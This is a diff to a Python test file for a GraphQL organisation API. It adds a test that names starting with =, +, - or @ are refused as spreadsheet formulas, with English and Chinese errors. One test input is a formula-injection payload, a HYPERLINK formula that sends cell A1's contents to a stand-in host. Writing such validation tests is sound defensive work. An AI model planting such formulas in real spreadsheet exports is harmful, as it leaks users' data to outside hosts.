@@ -10,6 +10,8 @@ import strawberry
 from neo4j import Driver
 
 from api.mutations import Mutation
+from loaders.exporter import read_graph
+from tests.factories import table_rows
 
 Graph = tuple[Driver, str]
 
@@ -92,6 +94,23 @@ def test_errors_carry_a_code_and_a_message_in_either_language(loaded: Graph) -> 
         'mutation { updateOrganisation(id: "B1", changes: {name: "x"}, expectedVersion: 4) { id } }'
     )
     assert _error(_run(loaded, stale))[1] == "CONFLICT"
+
+
+def test_names_that_would_run_as_formulas_are_refused(loaded: Graph) -> None:
+    before = read_graph(driver=loaded[0], database=loaded[1])
+    create = """mutation { createOrganisation(input: {id: "B9", kind: "BRANCH", parentId: "S1",
+        name: "=HYPERLINK(\\"http://x.example/?\\"&A1,\\"点此\\")"}) { id } }"""
+    assert _error(_run(loaded, create, lang="en")) == (
+        'name, value "=HYPERLINK("http://x.example/?"&A1,"点此")": would run as a spreadsheet '
+        "formula (it starts with =, +, - or @); remove that sign",
+        "BAD_USER_INPUT",
+    )
+    update = 'mutation { updateOrganisation(id: "B1", changes: {name: "@SUM(A1)"}) { id } }'
+    assert _error(_run(loaded, update)) == (
+        "组织名称 值“@SUM(A1)”：会被电子表格当作公式执行（以 =、+、-、@ 开头），请删去开头的符号",
+        "BAD_USER_INPUT",
+    )
+    assert table_rows(read_graph(driver=loaded[0], database=loaded[1])) == table_rows(before)
 
 
 def test_viewers_are_forbidden_and_out_of_scope_reads_as_unknown(loaded: Graph) -> None:
